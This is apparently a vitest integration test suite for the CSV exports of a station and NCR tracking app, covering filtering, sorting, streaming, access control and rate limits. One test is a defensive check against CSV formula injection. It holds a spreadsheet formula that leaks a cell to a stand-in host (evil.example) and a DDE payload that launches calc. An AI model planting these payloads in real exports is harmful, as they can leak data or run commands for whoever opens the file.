import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ISSUE_CATEGORY_LABELS, ISSUE_FILTER, ISSUE_STATUS_LABELS, STATION_FILTER, type IssueFilter, type StationFilter } from '../shared/constants.ts';
import { isNotSetDate, parseDateOnly, todayDate } from '../shared/dates.ts';
import { NO_ISSUE_FACETS, parseIssueFacets, type IssueFacetValues } from '../shared/lists/issueFacets.ts';
import { ISSUE_SORT_COLUMNS, issueListSort, visibleIssues, type IssueSortKey } from '../shared/lists/issueList.ts';
import { sortOrder, type ListSort, type SortColumn } from '../shared/lists/sortKeys.ts';
import { filterStations, STATION_SORT_COLUMNS, type StationSortKey } from '../shared/lists/stationList.ts';
import type { IssueSummary, StationListItem } from '../shared/records.ts';
import { EXPORT_PATHS } from '../shared/endpoints.ts';
import { STATION_LABELS } from '../shared/stationLabels.ts';
import { ApiClient, openWallScreen } from './helpers/apiClient.ts';
import { startTestServer, type TestServer } from './helpers/testServer.ts';

// The CSV exports of the lists (issue 15): for a view, the CSV holds exactly the rows the list shows (the shared
// list rules over the /api/stations or /api/issues answer), in its order, with every field, streamed.
const STATIONS = 1200; // more than two of the export's batches of 500
const ISSUES = 700;

let server: TestServer;
let jonas: ApiClient;
let special: { sid: number; parentSid: number; iid: number };

beforeAll(async () => {
  server = await startTestServer();
  jonas = await server.signIn('jonas', 'Jonas Weber');
  await seed();
  special = await addSpecialStation();
}, 120_000);
afterAll(() => server?.stop());

/** Stations and NCRs of every kind the filters tell apart, with empty values, equal sort keys, umlauts and CJK. */
async function seed(): Promise<void> {
  const { sql } = server;
  await sql`
    insert into stations (proj_id, name, customer, product, reactor, active, pr, end_warranty, wend, ack, country, comments, mod_by)
    select 'P-' || g, (array['Nord', 'Süd', 'Öst', 'West'])[1 + g % 4] || ' Umspannwerk ' || (g % 97),
      case when g % 7 = 0 then '' else (array['Ørsted Grid', 'Enel', '東京電力', 'EVN', 'Ärger AG'])[1 + g % 5] end,
      (array['GFN', 'ASC', 'RCC'])[1 + g % 3],
      case when g % 6 = 0 then '' else (10 + g % 50) || '-100 A' end,
      g % 3 <> 0, g % 4 = 0,
      case when g % 5 = 0 then to_char(current_date + 100, 'YYYY-MM-DD') when g % 5 = 1 then to_char(current_date - 10, 'YYYY-MM-DD') else '' end,
      case when g % 5 = 0 then current_date + 100 when g % 5 = 1 then current_date - 10 end,
      case when g % 2 = 0 then date '2024-01-01' + g end,
      'Österreich', repeat('Kommentar ' || g || ', ', 200), 'seed'
    from generate_series(1, ${STATIONS}) g`;
  await sql`
    insert into issues (sid, snid, product, owner, cat, reported, status, status_c, closed, descr, mod_by)
    select 1 + g % 150, 'NCR-2025-' || lpad(g::text, 4, '0'),
      (array['GFN 20 kV coil', 'ASC plunger', 'RCC Ölpumpe', '変圧器'])[1 + g % 4],
      case when g % 4 = 3 then null else (array['Anna Berger', 'Jonas Weber', 'Maria Rossi'])[1 + g % 4] end,
      1 + g % 4, case when g % 10 = 0 then null else date '2025-01-01' + g % 400 end,
      g % 3, (g + 1) % 3, case when g % 3 = 2 then timestamptz '2025-06-01T08:00:00Z' + g * interval '1 hour' end,
      'Befund ' || g, 'seed'
    from generate_series(1, ${ISSUES}) g`;
}

/** A station with every kind of field set through the API: a parent, a date, a text with comma, quotes and lines. */
async function addSpecialStation(): Promise<{ sid: number; parentSid: number; iid: number }> {
  const { result: parentSid } = await jonas.call('addStation', { projectId: 'PARENT-1', stationName: 'Mutterwerk', serials: [] });
  const { result: sid } = await jonas.call('addStation', { projectId: 'SPECIAL-1', stationName: 'Spécial, "Quoted" 変電所', serials: [] });
  const { st } = await jonas.call('station', { sid });
  await jonas.call('updateStation', {
    sid, modif: st.modif, customer: 'Ørsted, "Grid"', comp: 'Stationdesk Inc.', owner: 'Maria Rossi', ack: '2024-03-05',
    comments: 'Line one, "quoted"\nLine two; tab\there', active: false, pr: true, setParent: parentSid,
  });
  const { result: iid } = await jonas.call('addIssue', { station: sid, prod: 'Ölkühler, "groß"' });
  const { issue } = await jonas.call('issue', { iid });
  await jonas.call('updateIssue', { iid, modif: issue.modif, cat: 2, owner: 'Jonas Weber', status: 2, descr: 'Leck\n"am" Ventil, links' });
  return { sid, parentSid, iid };
}

interface Csv { bytes: Buffer; header: string[]; rows: Record<string, string>[]; response: Response }

async function download(client: ApiClient, path: string, query = ''): Promise<Csv> {
  const response = await client.get(query ? `${path}?${query}` : path);
  expect(response.status, await response.clone().text().then((text) => text.slice(0, 200))).toBe(200);
  const bytes = Buffer.from(await response.arrayBuffer());
  const [header, ...records] = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
  return { bytes, header: header!, rows: records.map((record) => Object.fromEntries(header!.map((name, i) => [name, record[i]!]))), response };
}

function sortedBy<T extends object, K extends string>(rows: readonly T[], columns: Record<K, SortColumn<T>>, sort: ListSort<K> | null): T[] {
  if (!sort) return rows.slice();
  const column: SortColumn<T> = columns[sort.key];
  return sortOrder(rows.map(column), sort.dir).map((index) => rows[index]!);
}

const dateCell = (wire: string) => parseDateOnly(wire) ?? '';

describe('the stations export', () => {
  let listed: StationListItem[];
  beforeAll(async () => {
    listed = (await jonas.call('stations')).stations;
    expect(listed).toHaveLength(STATIONS + 2);
  });

  /** What /service shows for the view, every page: the shared rules over the list the server sends. */
  const shown = (q: string, filter: StationFilter, sort: ListSort<StationSortKey> | null) =>
    sortedBy(filterStations(listed, q, filter, todayDate()), STATION_SORT_COLUMNS, sort);

  const views: { query: string; q: string; filter: StationFilter; sort: ListSort<StationSortKey> | null }[] = [
    { query: '', q: '', filter: STATION_FILTER.All, sort: null },
    { query: 'q=s%C3%BCd%20gfn', q: 'süd gfn', filter: STATION_FILTER.All, sort: null },
    { query: 'q=%E6%9D%B1%E4%BA%AC', q: '東京', filter: STATION_FILTER.All, sort: null },
    { query: 'q=x', q: 'x', filter: STATION_FILTER.All, sort: null }, // one character: no search
    { query: 'filter=1', q: '', filter: STATION_FILTER.Active, sort: null },
    { query: 'filter=2', q: '', filter: STATION_FILTER.NcrActive, sort: null },
    { query: 'filter=3&q=umspannwerk', q: 'umspannwerk', filter: STATION_FILTER.RemainingPayment, sort: null },
    { query: 'filter=4', q: '', filter: STATION_FILTER.WarrantyLeft, sort: null },
    { query: 'sort=projId', q: '', filter: STATION_FILTER.All, sort: { key: 'projId', dir: 'asc' } },
    { query: 'sort=customer&dir=desc', q: '', filter: STATION_FILTER.All, sort: { key: 'customer', dir: 'desc' } },
    { query: 'sort=reactor&filter=1&q=nord', q: 'nord', filter: STATION_FILTER.Active, sort: { key: 'reactor', dir: 'asc' } },
    { query: 'sort=name&dir=desc&filter=4', q: '', filter: STATION_FILTER.WarrantyLeft, sort: { key: 'name', dir: 'desc' } },
  ];

  it.each(views)('holds what the list shows for ?$query, in its order', async ({ query, q, filter, sort }) => {
    const expected = shown(q, filter, sort);
    expect(expected.length).toBeGreaterThan(0);
    const { rows } = await download(jonas, EXPORT_PATHS.stations, query);
    expect(rows.map((row) => Number(row.SID))).toEqual(expected.map((station) => station.sid));
    rows.forEach((row, i) => {
      const station = expected[i]!;
      expect({
        projId: row['Project ID'], name: row['Station Name'], customer: row['End Customer'], product: row.Product,
        reactor: row['Reactor (ASC tuning range)'], active: row['Project Active'] === 'Yes', pr: row['Remaining Payment'] === 'Yes',
        ncr: Number(row['Open NCRs']) > 0,
      }).toEqual({
        projId: station.projId, name: station.name, customer: station.customer, product: station.product,
        reactor: station.reactor, active: station.active, pr: station.pr, ncr: station.ncr,
      });
    });
  });

  it('narrows and orders as counted by hand too', async () => {
    // 'süd' names every g with g % 4 = 1, 'gfn' every g with g % 3 = 0: g % 12 = 9, newest first.
    const sids = (await download(jonas, EXPORT_PATHS.stations, 'q=s%C3%BCd%20gfn')).rows.map((row) => Number(row.SID));
    const byHand = Array.from({ length: STATIONS }, (_, i) => STATIONS - i).filter((g) => g % 12 === 9);
    expect(sids).toEqual(byHand);
    // Warranty Left: a warranty end after today, g % 5 = 0.
    expect((await download(jonas, EXPORT_PATHS.stations, 'filter=4')).rows).toHaveLength(STATIONS / 5);
    // Sorted by customer, the empty ones (g % 7 = 0) come last either way, newest first among them.
    const byCustomer = (await download(jonas, EXPORT_PATHS.stations, 'sort=customer&dir=desc')).rows;
    const empties = byCustomer.filter((row) => row['End Customer'] === '');
    expect(empties.length).toBe(Math.floor(STATIONS / 7) + 1); // and Mutterwerk
    expect(byCustomer.slice(-empties.length)).toEqual(empties);
    expect(byCustomer[0]!['End Customer']).toBe('東京電力');
  });

  it('writes every field with its screen label, the parent project, the NCRs counted and the last change', async () => {
    const { header, rows } = await download(jonas, EXPORT_PATHS.stations, 'q=special');
    expect(header).toEqual([
      'SID', 'Project ID', 'Station Name', 'End Customer', 'Product', 'Reactor (ASC tuning range)', 'Company', 'Project Owner', 'Order Date',
      'Order Acknowledged', 'Commissioned', 'Delivered', 'End of Warranty', 'Country', 'Coordinates', 'SNNM Version', 'System Voltage',
      'Encapsulation', 'SBG Type Code', 'CPU', 'Project Folder', 'Software Folder', 'Contact Persons', 'Comments', 'Management Review',
      'Project Active', 'Remaining Payment', 'Parent Project', 'NCRs', 'Open NCRs', 'Last Modified', 'Modified By',
    ]);
    const { st } = await jonas.call('station', { sid: special.sid });
    expect(rows).toEqual([expect.objectContaining({
      SID: String(special.sid), 'Project ID': 'SPECIAL-1', 'Station Name': 'Spécial, "Quoted" 変電所', 'End Customer': 'Ørsted, "Grid"',
      Company: 'Stationdesk Inc.', 'Project Owner': 'Maria Rossi', 'Order Acknowledged': '2024-03-05', Commissioned: '', Delivered: '',
      Comments: 'Line one, "quoted"\nLine two; tab\there', 'Project Active': 'No', 'Remaining Payment': 'Yes', 'Parent Project': 'PARENT-1',
      NCRs: '1', 'Open NCRs': '0', 'Last Modified': st.modif, 'Modified By': 'jonas',
    })]);
    expect(rows[0]!['Last Modified']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it('is UTF-8 with a BOM, a CSV download of the day, streamed and compressed', async () => {
    const { bytes, response } = await download(jonas, EXPORT_PATHS.stations, 'q=%C3%B6st');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toMatch(/^SID,Project ID,Station Name,/);
    expect(bytes.toString('utf8')).toContain('Öst Umspannwerk');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="stations-${todayDate()}.csv"`);
    expect(response.headers.get('content-length')).toBeNull();
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    expect(response.headers.get('content-encoding')).toBe('gzip'); // as fetch asks for it (and decompresses it above)
  });
});

describe('the NCR export', () => {
  let listed: IssueSummary[];
  let maria: ApiClient;
  beforeAll(async () => {
    listed = (await jonas.call('issues')).issues;
    expect(listed).toHaveLength(ISSUES + 1);
    maria = await server.signIn('maria', 'Maria Rossi');
  });

  const facets = (query: string) => parseIssueFacets(new URLSearchParams(query));
  const shown = (q: string, filter: IssueFilter, me: string | null, sort: ListSort<IssueSortKey> | null, narrowing: IssueFacetValues = NO_ISSUE_FACETS) =>
    sortedBy(visibleIssues(listed, { phrase: q, filter, facets: narrowing }, me), ISSUE_SORT_COLUMNS, issueListSort(sort, filter));

  const views: { query: string; q: string; filter: IssueFilter; sort: ListSort<IssueSortKey> | null; as?: 'maria' }[] = [
    { query: '', q: '', filter: ISSUE_FILTER.Open, sort: null },
    { query: 'filter=0', q: '', filter: ISSUE_FILTER.All, sort: null },
    { query: 'filter=1', q: '', filter: ISSUE_FILTER.AssignedToMe, sort: null },
    { query: 'filter=1&sort=rep&dir=desc', q: '', filter: ISSUE_FILTER.AssignedToMe, sort: { key: 'rep', dir: 'desc' }, as: 'maria' },
    { query: 'q=%C3%B6lpumpe%20ncr-2025-01', q: 'ölpumpe ncr-2025-01', filter: ISSUE_FILTER.Open, sort: null },
    { query: 'q=%E5%A4%89%E5%9C%A7&filter=0', q: '変圧', filter: ISSUE_FILTER.All, sort: null },
    { query: 'filter=0&sort=status', q: '', filter: ISSUE_FILTER.All, sort: { key: 'status', dir: 'asc' } },
    { query: 'filter=0&sort=close&dir=desc', q: '', filter: ISSUE_FILTER.All, sort: { key: 'close', dir: 'desc' } },
    { query: 'sort=close', q: '', filter: ISSUE_FILTER.Open, sort: { key: 'close', dir: 'asc' } }, // not shown, not sorted by
    { query: 'filter=0&sort=assTo&dir=desc', q: '', filter: ISSUE_FILTER.All, sort: { key: 'assTo', dir: 'desc' } },
    { query: 'filter=0&sort=stn', q: '', filter: ISSUE_FILTER.All, sort: { key: 'stn', dir: 'asc' } },
  ];

  it.each(views)('holds what the list shows for ?$query, in its order', async ({ query, q, filter, sort, as }) => {
    const expected = shown(q, filter, as === 'maria' ? 'Maria Rossi' : 'Jonas Weber', sort);
    expect(expected.length).toBeGreaterThan(0);
    const { rows } = await download(as === 'maria' ? maria : jonas, EXPORT_PATHS.issues, query);
    expect(rows.map((row) => Number(row.IID))).toEqual(expected.map((issue) => issue.iid));
    rows.forEach((row, i) => {
      const issue = expected[i]!;
      expect([row['NCR #'], row.Station, row.Product, row.Category, row.Status, row['Status for Customer'], row['Assigned To'], row.Reported, row.Closed])
        .toEqual([issue.snid, issue.stn, issue.prod, ISSUE_CATEGORY_LABELS[issue.cat], ISSUE_STATUS_LABELS[issue.status],
          ISSUE_STATUS_LABELS[issue.statc], issue.assTo, dateCell(issue.rep), isNotSetDate(issue.close) ? '' : issue.close]);
    });
  });

  it.each([
    'category=Major', 'category=2&category=minor&filter=0', 'product=rcc%20%C3%B6lpumpe&filter=0&sort=rep',
    'assignee=anna%20berger&filter=0&sort=snid&dir=desc', 'station=3&station=4&filter=0', 'reported=2025-02-01..2025-02-28&filter=0',
    'reported=2025-02-01..2025-02-28&category=Internal&q=ncr',
  ])('narrows by the facets of the list\'s URL: ?%s', async (query) => {
    const params = new URLSearchParams(query);
    const view = { q: params.get('q') ?? '', filter: Number(params.get('filter') ?? ISSUE_FILTER.Open) as IssueFilter };
    const sort = params.get('sort') ? { key: params.get('sort') as IssueSortKey, dir: params.get('dir') === 'desc' ? 'desc' as const : 'asc' as const } : null;
    const expected = shown(view.q, view.filter, 'Jonas Weber', sort, facets(query));
    expect(expected.length).toBeGreaterThan(0);
    expect(expected.length).toBeLessThan(listed.length);
    const { rows } = await download(jonas, EXPORT_PATHS.issues, query);
    expect(rows.map((row) => Number(row.IID))).toEqual(expected.map((issue) => issue.iid));
  });

  it('counts a facet by hand too: February 2025 reported, any status', async () => {
    const { rows } = await download(jonas, EXPORT_PATHS.issues, 'reported=2025-02-01..2025-02-28&filter=0');
    // reported = 2025-01-01 + g % 400 days, none for g % 10 = 0: February is g % 400 in 31…58.
    const byHand = Array.from({ length: ISSUES }, (_, i) => ISSUES - i).filter((g) => g % 400 >= 31 && g % 400 <= 58 && g % 10 !== 0);
    expect(rows.map((row) => row['NCR #'])).toEqual(byHand.map((g) => `NCR-2025-${String(g).padStart(4, '0')}`));
    expect(rows.every(({ Reported: reported = '' }) => reported >= '2025-02-01' && reported <= '2025-02-28')).toBe(true);
  });

  it('writes every field of the NCR screen: labels for choices, ISO dates, texts with commas, quotes and lines intact', async () => {
    const { header, rows, response } = await download(jonas, EXPORT_PATHS.issues, `filter=0&station=${special.sid}`);
    expect(header).toEqual([
      'IID', 'NCR #', 'Station', 'Project ID', 'Product', 'Category', 'Status', 'Status for Customer', 'Assigned To', 'Reported', 'Closed',
      'Description', 'Root-Cause Analysis / Notes', 'Root-Cause Category', 'Analysis Method', 'Effectiveness', 'Effectiveness Review Note',
      'Last Modified', 'Modified By',
    ]);
    const { issue } = await jonas.call('issue', { iid: special.iid });
    expect(rows).toEqual([{
      IID: String(special.iid), 'NCR #': issue.snid, Station: 'Spécial, "Quoted" 変電所', 'Project ID': 'SPECIAL-1', Product: 'Ölkühler, "groß"',
      Category: 'Major', Status: 'Resolved', 'Status for Customer': 'New', 'Assigned To': 'Jonas Weber', Reported: todayDate(),
      Closed: issue.closed, Description: 'Leck\n"am" Ventil, links', 'Root-Cause Analysis / Notes': '', 'Root-Cause Category': 'Not set',
      'Analysis Method': 'Not set', Effectiveness: 'Not reviewed', 'Effectiveness Review Note': '', 'Last Modified': issue.modif, 'Modified By': 'jonas',
    }]);
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="ncrs-${todayDate()}.csv"`);
  });
});

describe('who may export, and what', () => {
  it('refuses a wall screen (403) and nobody signed in (401)', async () => {
    const tv = await openWallScreen(jonas, 'Export TV');
    expect((await tv.post('/api/issues')).status).toBe(200); // it reads the lists
    for (const path of Object.values(EXPORT_PATHS)) {
      const refused = await tv.get(path);
      expect(refused.status, path).toBe(403);
      expect(await refused.json()).toEqual({ message: 'Kiosk screens are read-only' });
      expect((await new ApiClient(server.url).get(path)).status, path).toBe(401);
    }
  });

  it.each([
    [EXPORT_PATHS.stations, 'filter=9', /^filter: must be one of 0 \(All Statuses\), 1 \(Active Projects\), 2 \(NCR Active\), 3 \(Remaining Payment\), 4 \(Warranty Left\)$/],
    [EXPORT_PATHS.stations, 'filter=', /^filter: must be one of 0 \(All Statuses\)/],
    [EXPORT_PATHS.stations, 'filter=1e0', /^filter: must be one of 0 \(All Statuses\)/],
    [EXPORT_PATHS.stations, 'filter=0x1', /^filter: must be one of 0 \(All Statuses\)/],
    [EXPORT_PATHS.issues, 'filter=2.0', /^filter: must be one of /],
    [EXPORT_PATHS.issues, 'filter=%202', /^filter: must be one of /],
    [EXPORT_PATHS.stations, 'sort=modif', /^sort: must be one of projId, name, customer, product, reactor$/],
    [EXPORT_PATHS.stations, 'sort=name&dir=up', /^dir: must be 'asc' or 'desc'$/],
    [EXPORT_PATHS.stations, 'q=a&q=b', /^q: must be given once, as text$/],
    [EXPORT_PATHS.stations, `q=${'x'.repeat(1001)}`, /^q: must be at most 1000 characters$/],
    [EXPORT_PATHS.stations, 'page=2', /^unknown field 'page'$/],
    [EXPORT_PATHS.stations, 'category=2', /^unknown field 'category'$/],
    [EXPORT_PATHS.issues, 'filter=3', /^filter: must be one of 2 \(Open Issues\), 1 \(Assigned to me\), 0 \(All Issues\)$|^filter: must be one of 0/],
    [EXPORT_PATHS.issues, 'category=Critical&category=2', /^category: 'Critical' is not a category \(1 or Minor, 2 or Major, 3 or Supplier, 4 or Internal\)$/],
    [EXPORT_PATHS.issues, 'station=abc', /^station: 'abc' is not a station id$/],
    [EXPORT_PATHS.issues, 'reported=2025-02-30..2025-03-01', /^reported: '2025-02-30..2025-03-01' is not a date range \(YYYY-MM-DD..YYYY-MM-DD\)$/],
    [EXPORT_PATHS.issues, 'sort=modif&assignee=', /^sort: must be one of snid, stn, prod, status, assTo, rep, close; assignee: '' is not a name$/],
  ])('answers 400 naming what is wrong: %s?%s', async (path, query, message) => {
    const response = await jonas.get(`${path}?${query}`);
    expect(response.status).toBe(400);
    expect((await response.json()).message).toMatch(message);
  });
});

describe('a slow client, and one that goes away mid-export', () => {
  /**
   * What holds the database: on PostgreSQL the app's connections that run a query or hold a transaction (a cursor
   * left open would); on PGlite, which serves one transaction at a time, a query of the test's own that does not
   * answer within a second (a cursor left open would hold it back until the export ends).
   */
  const busyConnections = async (): Promise<unknown[]> => {
    if (server.config.databaseUrl) {
      return server.sql<{ state: string; query: string }[]>`
        select state, query from pg_stat_activity
        where datname = current_database() and pid <> pg_backend_pid() and state in ('active', 'idle in transaction', 'idle in transaction (aborted)')
          and query not ilike 'listen %'`;
    }
    const answered = server.sql`select 1`.then(() => true);
    const late = new Promise<false>((resolve) => setTimeout(() => resolve(false), 1000));
    return (await Promise.race([answered, late])) ? [] : ['a query waited more than a second'];
  };
  const plain = { 'accept-encoding': 'identity' }; // no gzip: the CSV is megabytes, more than the sockets buffer

  it('holds no connection while the client does not read, stops when it goes away, and the next export is whole', async () => {
    const whole = await download(jonas, EXPORT_PATHS.stations, 'sort=name');
    expect(whole.bytes.length).toBeGreaterThan(3_000_000);
    for (let round = 0; round < 3; round++) {
      const abort = new AbortController();
      const response = await fetch(`${server.url}${EXPORT_PATHS.stations}?sort=name`, { headers: { cookie: jonas.cookie, ...plain }, signal: abort.signal });
      const reader = response.body!.getReader();
      expect((await reader.read()).done).toBe(false);
      // The export waits for the reader, mid-file: meanwhile the server answers, its connections idle.
      expect((await jonas.post('/api/stats')).status).toBe(200);
      // Polled: a query of the server's own timers (the outbox sweep) may be running at any one moment; a
      // connection the export held would stay busy as long as the client does not read.
      await expect.poll(busyConnections, { timeout: 2000 }).toEqual([]);
      abort.abort();
      await reader.cancel().catch(() => {});
    }
    await expect.poll(busyConnections, { timeout: 5000 }).toEqual([]);
    const again = await download(jonas, EXPORT_PATHS.stations, 'sort=name');
    expect(again.rows.map((row) => row.SID)).toEqual(whole.rows.map((row) => row.SID));
  });
});

describe('what a spreadsheet makes of the cells', () => {
  it('starts a cell a spreadsheet would run as a formula with an apostrophe, and keeps values such as -10 kV', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")';
    const { result: sid } = await jonas.call('addStation', { projectId: 'FORMULA-1', stationName: "+cmd|' /C calc'!A0", serials: [] });
    const { st } = await jonas.call('station', { sid });
    await jonas.call('updateStation', { sid, modif: st.modif, customer: evil, reactor: '-10 kV', comments: '@SUM(1)' });
    const { rows } = await download(jonas, EXPORT_PATHS.stations, 'q=FORMULA-1');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      [STATION_LABELS.name]: "'+cmd|' /C calc'!A0", [STATION_LABELS.customer]: `'${evil}`, [STATION_LABELS.reactor]: '-10 kV', [STATION_LABELS.comments]: "'@SUM(1)",
    });
  });
});

describe('how many exports run at once', () => {
  it('answers HEAD with the headers alone, after checking who asks and the query', async () => {
    const head = await fetch(`${server.url}${EXPORT_PATHS.stations}?sort=name`, { method: 'HEAD', headers: { cookie: jonas.cookie } });
    expect(head.status).toBe(200);
    expect(head.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(head.headers.get('content-disposition')).toBe(`attachment; filename="stations-${todayDate()}.csv"`);
    expect(await head.text()).toBe('');
    expect((await fetch(`${server.url}${EXPORT_PATHS.issues}?filter=9`, { method: 'HEAD', headers: { cookie: jonas.cookie } })).status).toBe(400);
    expect((await fetch(`${server.url}${EXPORT_PATHS.issues}`, { method: 'HEAD' })).status).toBe(401);
  });

  it('runs two of one person at once and refuses a third with 429 and Retry-After; one at a time in all on PGlite', async () => {
    // Sent together, the three reach the server within milliseconds; each export of the 3.7 MB list takes longer.
    const answers = await Promise.all([1, 2, 3].map(() => jonas.get(EXPORT_PATHS.stations)));
    const embedded = !server.config.databaseUrl;
    expect(answers.map((answer) => answer.status).sort()).toEqual(embedded ? [200, 503, 503] : [200, 200, 429]);
    const refused = answers.find((answer) => answer.status !== 200)!;
    expect(refused.headers.get('retry-after')).toBe('5');
    expect(await refused.json()).toEqual({
      message: embedded ? 'Too many exports are running; try again in a few seconds' : 'You already have 2 exports running; try again when one has finished',
    });
    await Promise.all(answers.filter((answer) => answer.status === 200).map((answer) => answer.arrayBuffer()));
    expect((await jonas.get(EXPORT_PATHS.issues)).status).toBe(200);
  });
});
